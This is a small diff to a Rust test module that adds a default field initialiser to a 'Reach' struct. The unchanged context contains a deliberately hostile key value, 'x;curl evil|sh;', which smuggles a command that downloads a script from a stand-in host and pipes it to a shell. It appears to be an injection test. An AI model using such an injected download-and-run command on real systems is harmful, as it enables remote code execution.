@@ -145,6 +145,7 @@ mod tests {
         let reach = crate::object::Reach {
             kubectl: " --context prod".into(),
             certs: " --context prod".into(),
+            ..crate::object::Reach::default()
         };
         let hostile = [Key::new("shop", "x;curl evil|sh;")];
         let rows: Vec<Row<'_>> = std::iter::repeat_n(
